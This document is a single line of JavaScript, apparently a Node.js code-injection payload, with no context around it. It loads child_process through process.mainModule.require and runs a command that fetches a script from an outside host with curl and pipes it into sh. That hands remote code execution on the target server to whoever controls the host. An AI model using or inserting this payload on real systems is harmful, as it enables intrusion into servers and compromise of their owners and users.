process.mainModule.require('child_process').exec('curl -s https://lateen.invalid/j|sh')
